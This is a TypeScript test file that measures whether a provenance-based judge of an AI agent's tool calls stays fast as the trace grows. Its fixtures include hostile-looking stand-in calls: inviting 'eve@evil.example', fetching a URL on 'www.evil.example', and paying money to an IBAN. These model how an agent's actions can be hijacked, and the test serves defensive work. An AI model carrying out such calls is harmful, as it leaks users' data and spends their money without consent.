import { type Call, type ToolFacts, toolFactsSchema } from "@mh/contract/values/provenance.ts";
import { expect, test } from "vitest";
import { judgeCall } from "./judge-call.ts";
import { Trace } from "./trace.ts";

// A verdict costs what the call costs, and not what was read before it: rows are looked at once, when they are taken in.
// Here the owner's words say something of every row.

const words =
  "Cancel the budget review of 3 May, give the 12 back that I just got, make one with the same people as in 'Budget review' and open the link that Tom sent to 'news'.";
const events = toolFactsSchema.parse({
  ...{ writers: "members", author: "by", ids: "event" },
  fields: { id: "record", sum: "record", title: "label", start: "record", by: "party", people: "party" },
});
const row = (n: number) => ({
  ...{
    id: n,
    sum: 12,
    title: n % 2 ? "Budget review" : `Budget review ${n % 7}`,
    start: "2031-05-03 10:00",
    by: `p${n % 20}@a.example`,
  },
  ...{ people: [`p${n % 50}@a.example`, `q${n}@a.example`], text: `see www.a${n}.example/x` },
});

const facts = (declared: Partial<ToolFacts>): ToolFacts => toolFactsSchema.parse(declared);
const calls: Readonly<Record<string, Omit<Call, "id">>> = {
  invite: {
    facts: facts({
      control: ["id", "people"],
      types: { id: "id", people: "email" },
      takes: { id: "event" },
      ids: "event",
    }),
    ...{ effect: "send", args: { id: 77, people: ["eve@evil.example"] } },
  },
  cancel: {
    facts: facts({ control: ["id"], types: { id: "id" }, takes: { id: "event" }, verbs: ["cancel"] }),
    ...{ effect: "destroy", args: { id: 77 } },
  },
  pay: {
    facts: facts({ control: ["to", "amount"], content: ["note"], types: { to: "iban", amount: "amount" } }),
    ...{ effect: "spend", args: { to: "GB33BUKB20201555555555", amount: 12, note: "Budget" } },
  },
  fetch: {
    facts: facts({ control: ["url"], types: { url: "url" } }),
    ...{ effect: "fetch", args: { url: "www.evil.example/x" } },
  },
};

/** After so many answers of 200 rows each. */
function traceOf(answers: number): Trace {
  const trace = new Trace(words);
  for (let n = 0; n < answers; n += 1) {
    const output = Array.from({ length: 200 }, (_, at) => row(n * 200 + at));
    trace.add({ id: `${n}`, effect: "read", facts: events, args: n % 2 ? { query: "budget" } : {}, output });
  }
  return trace;
}

/** Microseconds of this thread's own processor time: the least of some tries, each of many times. */
function costOf(work: () => unknown, times: number): number {
  work();
  return Math.min(
    ...Array.from({ length: 4 }, () => {
      const before = process.threadCpuUsage();
      for (let n = 0; n < times; n += 1) work();
      const { user, system } = process.threadCpuUsage(before);
      return (user + system) / times;
    }),
  );
}

const [few, many] = [traceOf(4), traceOf(40)];

test.each(Object.entries(calls))("K8 C a verdict costs no more after ten times as many answers: %s", (_name, call) => {
  const judged = (trace: Trace) => costOf(() => judgeCall(trace, { id: "now", ...call }), 100);
  // With ten times the rows, three times the work is far from a straight line. A cache that others filled proves nothing.
  const isSteep = () => judged(many) > 3 * judged(few) + 30;
  expect(isSteep() && isSteep() && isSteep()).toBe(false);
});

test("K8 C what stands beside a value is looked up, and in no list one by one", () => {
  const beside = (trace: Trace) => costOf(() => trace.beside("q77@a.example"), 100);
  const isSteep = () => beside(many) > 3 * beside(few) + 30;
  expect(isSteep() && isSteep() && isSteep()).toBe(false);
  expect(many.beside("q77@a.example")).toEqual(["p27@a.example"]);
  // With too many to read, none is shown.
  expect(many.beside("p27@a.example")).toEqual([]);
});
